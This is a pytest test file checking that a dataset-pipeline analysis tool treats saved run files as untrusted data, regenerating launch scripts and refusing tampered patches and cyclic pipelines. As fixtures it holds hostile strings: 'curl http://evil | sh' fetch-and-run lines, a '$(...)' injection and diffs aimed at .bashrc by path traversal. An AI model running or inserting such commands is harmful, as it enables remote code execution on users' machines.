"""A saved run is data: what is pasted of it is made again of its numbers, and what no walk would end in is refused."""

from __future__ import annotations

import json
from collections.abc import Callable
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest
from builders import make_analysis, make_plan

from cs_input_analyzer.cli import main
from cs_input_analyzer.errors import UsageError
from cs_input_analyzer.records import Analysis, Fixes, Layout, Op, Options, Patch
from cs_input_analyzer.report import FORMATS, render, render_tuning
from cs_input_analyzer.report.foreign import MOST_LEVELS, MOST_OPS, OTHER_LINES
from cs_input_analyzer.report.run_document import run_document
from cs_input_analyzer.report.to_json import LONGEST_TEXT, from_json, load

EVIL = "csrun_wse python run.py ; curl http://evil/x | sh"


def read(run: dict[str, Any]) -> Analysis:
    return from_json(json.dumps(run), origin="run.json")


def saved(**overrides: Any) -> dict[str, Any]:
    found: dict[str, Any] = json.loads(render(make_analysis(**overrides), "json"))
    return found


def with_evil_lines() -> dict[str, Any]:
    run = saved()
    for name in run["recommendation"]["launch"]:
        run["recommendation"]["launch"][name] = EVIL
    return run


@pytest.mark.parametrize("form", FORMATS)
def test_launch_lines_of_a_file_are_in_no_format(form: Any) -> None:
    found = read(with_evil_lines())
    assert found.recommendation is not None
    assert found.recommendation.launch == make_analysis().recommendation.launch  # type: ignore[union-attr]
    for full in (False, True):
        assert "evil" not in render(found, form, full=full)


@pytest.mark.parametrize("form", ["console", "md", "html"])
def test_that_they_differ_is_said_in_one_line(form: Any) -> None:
    said = " ".join(render(read(with_evil_lines()), form).replace("\\", "").split())
    assert said.count(OTHER_LINES) == (3 if form == "html" else 1)  # the page has both places where lines stand, and the run


def test_the_batch_file_is_made_anew_and_the_note_is_on_standard_error(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    file, script = tmp_path / "run.json", tmp_path / "train.sbatch"
    file.write_text(json.dumps(with_evil_lines()))
    assert main(["report", str(file), "-o", str(script)]) == 0
    told = capsys.readouterr()
    assert told.err == f"cs_input_analyzer: {OTHER_LINES}\n"
    assert script.read_text() == render(make_analysis(), "sbatch")
    file.write_text(json.dumps(saved()))
    assert main(["report", str(file), "-o", str(script)]) == 0
    assert capsys.readouterr().err == ""


@pytest.mark.parametrize(
    "options",
    [
        Options(),
        Options(train_command="python-ws train.py --mode eval", container="a b.sif", mount_dirs=("/a", "/b c"), cyclic=True),
        Options(srun_args="--label", sbatch_args="--account=x --time=1", shared_nodes=True, partition="gpu", exclude_nodes=("n1",)),
    ],
)
def test_of_an_honest_file_nothing_is_said(options: Options) -> None:
    run = make_analysis(options=options)
    again = from_json(render(run, "json"), origin="x")
    assert again == run
    assert again.recommendation is not None
    assert again.recommendation.launch_note == ""
    assert OTHER_LINES not in " ".join(render(again, "console", full=True).split())


def test_a_run_without_lines_gets_none_and_no_note() -> None:
    again = from_json(render(make_analysis(recommendation=make_plan(launch=None)), "json"), origin="x")
    assert again.recommendation is not None
    assert (again.recommendation.launch, again.recommendation.launch_note) == (None, "")


def test_a_note_of_the_file_is_not_taken_over() -> None:
    run = saved()
    run["recommendation"]["launch_note"] = "paste this: evil"
    assert "evil" not in render(read(run), "console", full=True)


def test_options_that_give_no_lines_leave_a_readable_run() -> None:
    run = saved()
    run["options"]["train_command"] = "python 'run.py"
    found = read(run)
    assert found.recommendation is not None
    assert found.recommendation.launch is None
    assert "no launch lines: --train-command is not a readable command line" in " ".join(render(found, "console").split())
    with pytest.raises(UsageError, match="no launch lines: --train-command"):
        render(found, "sbatch")
    assert render(found, "env").startswith("export DEF_NODES=")


def test_a_command_that_no_program_takes_gives_no_lines() -> None:
    run = saved()
    run["options"]["train_command"] = "x" * 1_000_000
    assert "--train-command has 1,000,000 characters" in " ".join(render(read(run), "console").split())
    run["options"]["train_command"] = "python " + "x" * 100_000
    assert "x" * 100_000 in render(read(run), "sbatch")


def test_lines_of_an_older_release_are_made_anew_with_the_note() -> None:
    found = load(Path(__file__).with_name("run_0.1.0.json"))
    assert found.recommendation is not None
    assert found.recommendation.launch_note == OTHER_LINES
    assert found.recommendation.launch is not None
    assert "--distribution=block" in found.recommendation.launch.sbatch


# --- other text to paste --------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("command", "is_copied"),
    [
        ("cs_input_analyzer analyze data.py:f --demand 7000", True),
        ("cs_input_analyzer analyze 'a b.py:f' --set 'x=***'", True),
        ("cs_input_analyzer analyze data.py:f; curl http://evil | sh", False),
        ("cs_input_analyzer analyze $(curl http://evil)", False),
        ("curl http://evil", False),
        ("cs_input_analyzer analyze 'x", False),
        ("cs_input_analyzer.analyze(…)", False),
        ("", False),
    ],
)
def test_a_command_is_offered_to_copy_where_it_is_one_of_ours(command: str, is_copied: bool) -> None:
    document = run_document(make_analysis(command=command))
    copied = [part.text for section in document.sections for part in section.parts if hasattr(part, "instead")]
    assert (command in copied) == is_copied
    if command:
        assert command in " ".join(render(make_analysis(command=command), "console", full=True).split())


DIFF = "--- data.py\n+++ data.py\n@@ -1 +1 @@\n-a\n+b\n\\ No newline at end of file\n"


@pytest.mark.parametrize(
    ("diff", "is_shown"),
    [
        (DIFF, True),
        (DIFF.replace("data.py", "/home/ada/.bashrc"), False),
        (DIFF.replace("data.py", "a/../../.bashrc"), False),
        ("1,2d\n!curl http://evil | sh\n", False),
        (DIFF + "curl http://evil | sh\n", False),
    ],
)
def test_a_patch_is_shown_where_it_is_a_unified_diff_of_files_in_its_folder(diff: str, is_shown: bool) -> None:
    patch = Patch(diff=diff, folder="/a b", codes=("CSI101",), by_hand=(), proven=True)
    fixes = Fixes(codes=("CSI101",), edits=(), measured_gain=None, layout=Layout.parse("1x1x1"), patch=patch)
    text = render_tuning(make_analysis(fixes=fixes))
    assert (diff.splitlines()[-1] in text) == is_shown
    assert ("cd '/a b' && patch -p0" in " ".join(text.split())) == is_shown


# --- what would not end ---------------------------------------------------------------------------------------------------------


def op(name: str, *inputs: str, within: str | None = None) -> Op:
    return Op(name=name, kind="Map", inputs=inputs, within=within, parameters={})


CIRCLES: dict[str, tuple[Op, ...]] = {
    "itself": (op("map", "map"),),
    "each other": (op("a", "b"), op("b", "a")),
    "three, behind a source": (op("range"), op("a", "range", "c"), op("b", "a"), op("c", "b")),
    "holds itself": (op("a", within="a"),),
    "hold each other": (op("a", within="b"), op("b", within="a")),
    "reads what holds it": (op("inner", "outer", within="outer"), op("outer")),
    "one name twice": (op("a"), op("b", "a"), op("a", "b")),
}
STRAIGHT: dict[str, tuple[Op, ...]] = {
    "none": (),
    "one": (op("range"),),
    "a row": tuple(op(f"map_{n}", f"map_{n - 1}") for n in range(MOST_OPS)),
    "two that join": (op("a"), op("b"), op("zip", "a", "b"), op("batch", "zip")),
    "one read twice": (op("a"), op("zip", "a", "a")),
    "nested": (op("files"), op("tfrecord", within="interleave"), op("interleave", "files"), op("map", "interleave")),
    "an outer one read inside": (op("a"), op("map", "a", within="flat_map"), op("flat_map", "a")),
    "an input that is not there": (op("map", "gone"),),
    "deep": tuple(op(f"o{n}", within=f"o{n + 1}") for n in range(MOST_LEVELS)),
    "one name twice": (op("a"), op("a"), op("b", "a")),
    "no name": (op(""), op("map", "")),
}


def with_ops(*ops: Op) -> str:
    run = make_analysis()
    return render(replace(run, pipeline=replace(run.pipeline, ops=ops)), "json")


@pytest.mark.parametrize("name", CIRCLES)
def test_ops_that_read_their_own_elements_are_refused_in_one_line(name: str, tmp_path: Path, capsys: Any) -> None:
    file = tmp_path / "run.json"
    file.write_text(with_ops(*CIRCLES[name]))
    for command in (["report"], ["plan", "--demand", "9k"], ["compare", str(file)]):
        assert main([command[0], str(file), *command[1:]]) == 2
        (said,) = capsys.readouterr().err.splitlines()
        assert "an op reads its own elements" in said


@pytest.mark.parametrize("name", STRAIGHT)
def test_other_ops_are_read_and_shown(name: str) -> None:
    found = from_json(with_ops(*STRAIGHT[name]), origin="x")
    assert found.pipeline.ops == STRAIGHT[name]
    assert name == "a row" or render(found, "console", full=True)


REFUSED: dict[str, tuple[Callable[[dict[str, Any]], object], str]] = {
    "too deep": (
        lambda run: run["pipeline"].update(
            ops=[{"name": f"o{n}", "kind": "Map", "parameters": {}, "within": f"o{n + 1}"} for n in range(60)]
        ),
        "functions deep",
    ),
    "too many": (
        lambda run: run["pipeline"].update(ops=[{"name": f"o{n}", "kind": "Map", "parameters": {}} for n in range(MOST_OPS + 1)]),
        "more than any pipeline has",
    ),
    "a vast text": (lambda run: run.update(command="x" * (LONGEST_TEXT + 1)), "command: a text of 16,777,217 characters"),
    "no params": (lambda run: run["options"].update(params_json="{"), "options.params_json: this is not the JSON of params"),
    "nested params": (lambda run: run["options"].update(params_json="[" * 100_000), "options.params_json"),
    "wrong pairs": (lambda run: run["options"].update(params_json='{"__pairs__": 1}'), "options.params_json"),
}


@pytest.mark.parametrize("name", REFUSED)
def test_what_no_run_holds_is_refused(name: str) -> None:
    change, message = REFUSED[name]
    run = saved()
    change(run)
    with pytest.raises(UsageError, match=message) as caught:
        read(run)
    assert len(str(caught.value)) < 300
